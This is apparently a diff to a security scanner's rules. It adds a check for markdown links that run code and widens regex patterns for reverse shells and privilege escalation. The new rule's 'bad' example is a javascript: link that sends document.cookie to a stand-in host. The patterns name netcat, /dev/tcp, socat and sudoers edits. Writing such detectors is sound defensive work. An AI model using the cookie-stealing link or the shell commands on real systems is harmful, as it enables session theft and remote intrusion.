@@ -6,7 +6,7 @@ import re
 
 from asf_core.domain.findings import FindingCode, Place, Severity
 from asf_core.quality.scan.kinds import COMMANDS, Kind
-from asf_core.quality.scan.model import ACTIONS, Hit, TextRule, lowered
+from asf_core.quality.scan.model import ACTIONS, ORDERS, Hit, TextRule, lowered
 from asf_core.quality.scan.rules.common import scan_rule
 
 _INFO, _LOW, _MEDIUM, _HIGH, _CRITICAL = Severity
@@ -104,6 +104,19 @@ SURVEILLANCE = scan_rule(
 )
 
 
+SCRIPT_LINK = scan_rule(
+    id="code/script-link",
+    severity=_HIGH,
+    title="a link that runs code",
+    code=_UNKNOWN,
+    why="A page that renders the link runs what stands in it, with the reader's session.",
+    remedy="Link to a page.",
+    bad="[more](javascript:fetch('https://x.example.invalid/'+document.cookie))",
+    good="[more](references/more.md)",
+    source="CWE-79, cross-site scripting",
+)
+
+
 def _is_constant(hit: Hit) -> Severity | bool:
     """A constant command line cannot be changed by data."""
     rest = hit.file.data[hit.end : hit.end + 300].decode("utf-8", "ignore").split("\n", 1)[0]
@@ -122,6 +135,7 @@ RULES: tuple[TextRule, ...] = (
         r"(?:ba|z|k|da)?sh\s+-i\s*[<>0-9&|]*\s*[>&|]+\s*/dev/(?:tcp|udp)/\S+|/dev/(?:tcp|udp)/[\w.${}-]+/[\w${}]+[^\n]*(?:\bsh\b|exec)|exec\s+\d+<>\s*/dev/tcp/\S+"
         r"|\b(?:nc|ncat|netcat)\b[^\n]*\s(?:-\w*[ec]\w*|--exec|--sh-exec)\s+[\"']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh|mkfifo\s+\S+[^\n]*\|\s*(?:/bin/)?\w*sh\b[^\n]*\|\s*(?:nc|ncat|netcat|openssl)\b"
         r"|socket\.socket\([^\n]*\.connect\([^\n]*(?:dup2|subprocess|pty\.spawn)|\bos\.dup2\(\s*\w+\.fileno\(\)[^\n]*|\bpty\.spawn\(\s*[\"'](?:/bin/)?\w*sh"
+        r"|\bsocket\([^\n]*\bexec\s*\(?[\"'{]?/bin/\w*sh|TCPSocket\.(?:open|new)[^\n]*\bexec\b[^\n]*sh\b|spawn\(\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"'][^\n]*net\.(?:Socket|connect)|net\.(?:Socket|connect)\([^\n]*(?:spawn|exec)\w*\([^\n]*sh"
         r"|socat\b[^\n]*exec:[\"']?[^\n]*sh|new\s+net\.Socket\(\)[^\n]*child_process|fsockopen\([^\n]*(?:exec|proc_open|shell_exec)|System\.Net\.Sockets\.TCPClient[^\n]*",
         "It opens a shell for somebody else: {text!r}.",
         {**ACTIONS, Place.SCRIPT: _CRITICAL, Place.CODE: _HIGH},
@@ -225,12 +239,22 @@ RULES: tuple[TextRule, ...] = (
     ),
     TextRule(
         PRIVILEGE,
-        r"\bNOPASSWD\b\s*:|>>?\s*/etc/sudoers\b|\bchmod\s+(?:-\w+\s+)*(?:[ug]*\+s\b|[2467][0-7]{3}\b)|\bsetcap\s+cap_\w+|\bchmod\s+(?:-R\s+|--recursive\s+)+(?:0?777|a\+rwx)\s+/(?:\s|$|etc|usr|var|home)|\busermod\b[^\n]*-aG\s+(?:sudo|wheel|root)\b|--privileged\b[^\n]*-v\s+/:/|-v\s+/:/\w*",
+        r"\bNOPASSWD\b\s*:|>>?\s*/etc/sudoers\b|\bchmod\s+(?:-\w+\s+)*(?:[ug]*\+s\b|[2467][0-7]{3}\b)|\bsetcap\s+cap_\w+|\bchmod\s+(?:-R\s+|--recursive\s+)+(?:0?777|a\+rwx)\s+/(?:[\s`\"';]|$|etc|usr|var|home)|\busermod\b[^\n]*-aG\s+(?:sudo|wheel|root)\b|--privileged\b[^\n]*-v\s+/:/|-v\s+/:/\w*",
         "It widens what its user may do: {text!r}.",
-        {**ACTIONS, Place.INSTRUCTION: _LOW, Place.CODE: _LOW},
+        {**ACTIONS, Place.INSTRUCTION: _MEDIUM, Place.CODE: _LOW},
         runs=True,
         judge=lambda hit: (
             True if re.search(r"NOPASSWD|sudoers|setcap|\+s\b", hit.text) else _MEDIUM
+        ),
+    ),
+    TextRule(
+        SCRIPT_LINK,
+        r"\]\(\s*<?\s*(?:javascript|vbscript):[^\n)]*|\]\(\s*<?\s*data:text/html[^\n)]*|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript):[^\n\"'>]*",
+        "A link runs code: {text!r}.",
+        {**ORDERS, Place.CODE: _LOW},
+        kinds=frozenset({Kind.MARKDOWN, Kind.TEXT}),
+        judge=lambda hit: (
+            _LOW if re.search(r"javascript:\s*(?:void|;|\)|$)", hit.text, re.IGNORECASE) else True
         ),
     ),
     TextRule(
